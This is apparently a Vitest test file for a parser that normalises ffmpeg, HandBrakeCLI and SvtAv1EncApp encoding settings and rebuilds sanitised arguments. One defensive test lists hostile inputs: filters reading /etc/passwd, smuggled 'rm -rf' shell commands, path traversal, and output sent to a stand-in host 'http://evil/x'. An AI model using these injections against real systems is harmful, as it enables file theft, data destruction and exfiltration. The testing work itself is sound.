// biome-ignore-all lint/suspicious/noTemplateCurlyInString: variables of shells
import { describe, expect, it } from 'vitest';
import { normaliseArguments, outputArguments } from '../../../src/comparison/arguments.ts';
import { findCommands } from '../../../src/comparison/commands.ts';
import { bits, parseArguments, parseSettings } from '../../../src/comparison/settings.ts';

const parse = (text: string) => parseSettings(findCommands(text, 'sh')[0]!);
const only = (text: string) => parse(text).value.outputs[0]!;
const key = (text: string) => normaliseArguments(only(text)).join(' ');
const argv = (text: string) => outputArguments(only(text));

describe('whose option it is', () => {
  it('before -i it is the input’s, after it the next output’s', () => {
    const { value } = parse('ffmpeg -r 10 -i a.yuv -ss 5 -i b.mp4 -r 25 -crf 20 x.mp4 -crf 30 y.mp4');
    expect(value.inputs).toEqual([
      { file: 'a.yuv', muxer: null, options: ['-r', '10'] },
      { file: 'b.mp4', muxer: null, options: ['-ss', '5'] },
    ]);
    expect(value.outputs.map(({ file, video }) => [file, video?.fps, video?.crf])).toEqual([
      ['x.mp4', 25, 20],
      ['y.mp4', null, 30],
    ]);
  });

  it('the last of a name counts, by stream', () => {
    expect(
      only('ffmpeg -i a -crf 20 -crf 25 -c libx264 -c:v libx265 -c:a aac -b:a 1M b.mkv').video,
    ).toMatchObject({
      codec: 'libx265',
      crf: 25,
      bitrate: null,
    });
    expect(only('ffmpeg -i a -vcodec h264 -b 1M -ab 64k b.mkv').video).toMatchObject({
      codec: 'libx264',
      bitrate: 1e6,
    });
  });

  it('global options and flags are nobody’s', () => {
    const { value, problems } = parse(
      'ffmpeg -y -hide_banner -loglevel error -i a -an -nostats -crf 20 b.mp4 -y',
    );
    expect(value.outputs).toHaveLength(1);
    expect(value.outputs[0]!.other).toEqual([]);
    expect(problems).toEqual([]);
  });

  it('options after the last output, without a value or without an output are said', () => {
    expect(parse('ffmpeg -i a b.mp4 -crf 20').problems).toMatchObject([
      { code: 'trailing_options', field: 'crf' },
    ]);
    expect(parse('ffmpeg -i a b.mp4 -crf').problems).toMatchObject([{ code: 'missing_value', field: 'crf' }]);
    expect(parse('ffmpeg version N-98740 Copyright').value.outputs).toEqual([]);
    expect(parse('ffmpeg -i a').problems).toMatchObject([{ code: 'no_output' }]);
    expect(parse('ffmpeg -i a -b:v fast b.mp4').problems).toMatchObject([{ code: 'bad_value', field: 'b' }]);
  });

  it('holes say which field is not known', () => {
    const { value } = parse('ffmpeg -i $IN $X264_OPTS -crf "$Q" -b:a $R -b:v ${R}k "$OUT"');
    expect(value.holes).toEqual([
      { field: 'options', names: ['X264_OPTS'] },
      { field: 'file', names: ['OUT'] },
      { field: 'crf', names: ['Q'] },
      { field: 'b', names: ['R'] },
    ]);
    expect(value.outputs[0]!.video).toMatchObject({ crf: null, bitrate: null, codecStated: false });
  });

  it('a complex graph is kept whole and followed back to the source', () => {
    const output = only(
      "ffmpeg -i a -filter_complex '[0:v]split=2[a][b];[a]scale=1280:-2[x];[b]scale=640:360,fps=25[y]' -map '[y]' -map 0:a b.mp4",
    );
    expect(output.video).toMatchObject({ size: { width: 640, height: 360 }, fps: 25 });
    expect(output.video?.graph?.text).toContain('[0:v]split=2[a][b];[a]scale=1280:-2[x]');
    expect(outputArguments(output).value?.join(' ')).toContain('-filter:v scale=640:360,fps=25');
  });

  it.each([
    ['1500k', 1_500_000],
    ['2.5M', 2_500_000],
    ['1Mi', 1_048_576],
    ['800kB', 6_400_000],
    ['64000', 64_000],
    ['0', 0],
    ['.5M', 500_000],
    ['fast', null],
    ['-5', null],
    ['', null],
  ])('a rate of %s', (text, expected) => {
    expect(bits(text)).toBe(expected);
  });
});

describe('the key of an output', () => {
  it.each([
    [
      'ffmpeg -i a -c:v libx264 -crf 20 b.mp4',
      'ffmpeg -y -i other -crf 20 -vcodec h264 -c:a copy -movflags +faststart c.mkv',
    ],
    ['ffmpeg -i a -c:v libx264 -preset medium -crf 23 b.mp4', 'ffmpeg -i a -c:v libx264 b.mp4'],
    ['ffmpeg -i a -b:v 1500k b.mp4', 'ffmpeg -i a -b:v 1.5M b.mp4'],
    [
      'ffmpeg -i a -x264-params ref=4:bframes=3 b.mp4',
      'ffmpeg -i a -x264opts bframes=3:ref=4:threads=2 b.mp4',
    ],
    ['ffmpeg -i a -x264opts no-scenecut b.mp4', 'ffmpeg -i a -x264-params no-scenecut=1 b.mp4'],
    ['ffmpeg -i a -vf "scale=1280:-2, fps=25" b.mp4', 'ffmpeg -i a -filter:v scale=1280:-2,fps=25 b.mp4'],
    ['ffmpeg -i a -crf 20 -threads 4 -t 10 b.mp4', 'ffmpeg -i a -crf 20.0 -metadata title=x b.mp4'],
  ])('%s is %s', (a, b) => {
    expect(key(a)).toBe(key(b));
  });

  it.each([
    ['ffmpeg -i a -crf 20 b.mp4', 'ffmpeg -i a -crf 21 b.mp4'],
    ['ffmpeg -i a -c:v libx264 b.mp4', 'ffmpeg -i a -c:v libx265 b.mp4'],
    ['ffmpeg -i a -b:v 1M -crf 23 b.mp4', 'ffmpeg -i a -b:v 1M b.mp4'],
    ['ffmpeg -i a -b:v 1M b.mp4', 'ffmpeg -i a -b:v 1M -pass 2 b.mp4'],
    ['ffmpeg -i a -vf fps=25,scale=2:2 b.mp4', 'ffmpeg -i a -vf scale=2:2,fps=25 b.mp4'],
    ['ffmpeg -i a -tune film b.mp4', 'ffmpeg -i a b.mp4'],
    ['ffmpeg -i a -c copy b.mp4', 'ffmpeg -i a b.mp4'],
  ])('%s is not %s', (a, b) => {
    expect(key(a)).not.toBe(key(b));
  });

  it('is the same for the two passes of an encode', () => {
    const [first, second] = findCommands(
      'ffmpeg -i a -b:v 1M -pass 1 -f mp4 /dev/null\nffmpeg -i a -b:v 1M -pass 2 b.mp4',
      'sh',
    ).map((command) => normaliseArguments(parseSettings(command).value.outputs[0]!));
    expect(first).toEqual(second);
  });

  it('stays the same when our own arguments are read again', () => {
    for (const text of [
      'ffmpeg -i a -c:v libx265 -crf 24 -preset slow -x265-params aq-mode=3:keyint=120 -pix_fmt yuv420p10le -vf scale=-2:720 b.mp4',
      'ffmpeg -i a -s hd720 -b:v 2M -maxrate 3M -bufsize 4M -g 50 b.webm',
      'HandBrakeCLI -i a -o b.mp4 -e x264 -q 20 -w 640 -l 360 --encoder-preset fast',
      'SvtAv1EncApp -i a.y4m -b b.ivf --crf 30 --preset 6 --film-grain 8',
    ]) {
      const output = only(text);
      const again = parseArguments(['ffmpeg', '-i', 'in', ...outputArguments(output).value!, 'out.mkv']);
      expect(normaliseArguments(again.value.outputs[0]!)).toEqual(normaliseArguments(output));
    }
  });
});

describe('our own arguments', () => {
  it('take the picture only', () => {
    expect(
      argv(
        'ffmpeg -i a -c:v libx264 -crf 20 -preset slow -c:a aac -vf "scale=1280:-2" -movflags +faststart b.mp4',
      ),
    ).toEqual({
      value: [
        ...['-map', '0:v:0', '-an', '-sn', '-dn', '-map_metadata', '-1'],
        ...['-filter:v', 'scale=1280:-2', '-c:v', 'libx264', '-preset', 'slow', '-crf', '20'],
      ],
      problems: [],
    });
  });

  it('name the pass and its log', () => {
    const { value } = outputArguments(only('ffmpeg -i a -b:v 1M -pass 2 -passlogfile /etc/x b.mp4'), {
      number: 1,
      log: 'two',
    });
    expect(value?.slice(-4)).toEqual(['-pass', '1', '-passlogfile', 'two']);
    expect(value?.join(' ')).not.toContain('/etc');
  });

  it.each([
    ['a copy', 'ffmpeg -i a -c copy b.mp4', 'not_an_encode'],
    ['sound', 'ffmpeg -i a b.mp3', 'not_an_encode'],
    ['raw frames', 'ffmpeg -i a -f rawvideo b.yuv', 'not_an_encode'],
    ['an unknown value', 'ffmpeg -i a -crf $Q b.mp4', 'unresolved'],
    ['unknown options', 'ffmpeg -i a $OPTS b.mp4', 'unresolved'],
    [
      'an overlay',
      "ffmpeg -i a -i b -filter_complex '[0:v][1:v]overlay=0:0[o]' -map '[o]' b.mp4",
      'not_supported',
    ],
    ['a filter with branches', "ffmpeg -i a -vf 'split[a][b];[a][b]hstack' b.mp4", 'not_supported'],
    [
      'labels in a chain',
      "ffmpeg -i a -vf 'split=2[a][b],[b]histogram[h],[a][h]overlay' b.mp4",
      'not_supported',
    ],
    ['no known encoder', 'ffmpeg -i a b.xyz', 'not_supported'],
  ])('refuse %s', (_, text, code) => {
    const { value, problems } = argv(text);
    expect(value).toBeNull();
    expect(problems.map((problem) => problem.code)).toContain(code);
  });

  it.each([
    ['ffmpeg -i a -vf "movie=/etc/passwd,scale=2:2" b.mp4', ['movie', '/etc']],
    ['ffmpeg -i a -vf "drawtext=textfile=/etc/passwd" b.mp4', ['drawtext', '/etc']],
    ['ffmpeg -i a -vf subtitles=x.srt b.mp4', ['subtitles']],
    ['ffmpeg -i a -vf "curves=psfile=x.acv" b.mp4', ['psfile']],
    ['ffmpeg -i a -vf "scale=2:2,metadata=print:file=x" b.mp4', ['metadata=', 'file']],
    ['ffmpeg -i a -vf "scale=w=2:h=2:flags=\'/../x\'" -vf "lut3d=/x.cube" b.mp4', ['lut3d', '/x']],
    [
      'ffmpeg -i a -x264-params "ref=4:stats=/tmp/x:dump-yuv=/tmp/y:qpfile=z" b.mp4',
      ['/tmp', 'qpfile', 'stats', 'dump'],
    ],
    [
      'ffmpeg -i a -c:v libx265 -x265-params "csv=/tmp/x:recon=y.yuv:analysis-save=z:aq-mode=2" b.mp4',
      ['csv', 'recon', 'analysis'],
    ],
    [
      'ffmpeg -i a -c:v libsvtav1 -svtav1-params "stats-file=/x:film-grain=8:fgs-table=y" b.mp4',
      ['file', 'fgs'],
    ],
    [
      'ffmpeg -i a -vstats_file /tmp/x -dump_attachment:t:0 y -attach z -stats x b.mp4',
      ['/tmp', 'attach', 'stats'],
    ],
    ['ffmpeg -i a -preset "../../x" -profile:v "/etc/x" b.mp4', ['..', '/etc']],
    ['ffmpeg -i a -tune "$(rm -rf x)" -level \'; rm -rf ~ #\' b.mp4', ['rm', ';']],
    ['ffmpeg -i a -fpre /etc/x -filter_script:v /x -/filter:v /y b.mp4', ['/etc', '/x', '/y']],
    ['ffmpeg -i a -f tee -map 0:v "[f=mpegts]file:/tmp/x|y.mp4"', ['tee', '/tmp']],
    ['ffmpeg -i a -protocol_whitelist all -headers x -f mp4 http://evil/x', ['http', 'whitelist']],
    ['ffmpeg -i a -c:v "libx264 -y /tmp/x" b.mp4', ['/tmp']],
    ['HandBrakeCLI -i a -o b.mp4 -e x264 -x "stats=/tmp/x:ref=2" -q 20', ['/tmp']],
    ['SvtAv1EncApp -i a -b b --crf 20 --stat-report /tmp/x -o /tmp/y --qp-file z', ['/tmp', 'file']],
  ])('let nothing through that opens a file or runs: %s', (text, never) => {
    const { value } = argv(text);
    for (const part of never) expect((value ?? []).join(' ')).not.toContain(part);
    for (const word of value ?? []) expect(word).not.toMatch(/^(-i|-y|-f|-report|-init_hw_device)$/);
  });

  it('say what they left out', () => {
    expect(
      argv('ffmpeg -i a -crf 20 -vf "scale=2:2,drawtext=text=x" -unknown 3 b.mp4').problems,
    ).toMatchObject([
      { code: 'option_ignored', field: 'unknown' },
      { code: 'filter_ignored', field: 'filter' },
    ]);
  });
});

describe('HandBrakeCLI and SvtAv1EncApp', () => {
  it('state what is not read', () => {
    const { value, problems } = parse(
      'HandBrakeCLI --preset="Fast 1080p30" -i a -o b.mp4 --multi-pass -b 2500 --decomb',
    );
    expect(value.outputs[0]!.video).toMatchObject({ bitrate: 2_500_000, pass: 2 });
    expect(problems.map(({ code, field }) => [code, field])).toEqual([
      ['not_supported', 'preset'],
      ['option_ignored', 'decomb'],
    ]);
  });

  it('take the largest size for what it is', () => {
    const { value } = argv('HandBrakeCLI -i a -o b.mp4 -e x264 -q 20 --maxHeight 720');
    expect(value).toContain("scale=-2:'min(720,ih)'");
    expect(argv('HandBrakeCLI -i a -o b.mp4 -e x264 -q 20 -w 640 -l 360').value).toContain('scale=640:360');
  });

  it('tell the quality of adaptive quantisation from a fixed quantiser', () => {
    expect(only('SvtAv1EncApp -i a -b b -q 35').video).toMatchObject({ crf: 35, qp: null });
    expect(only('SvtAv1EncApp -i a -b b -q 35 --aq-mode 0').video).toMatchObject({ crf: null, qp: 35 });
    expect(only('SvtAv1EncApp -i a -b b --rc 1 --tbr 1500').video).toMatchObject({
      crf: null,
      bitrate: 1_500_000,
    });
  });
});
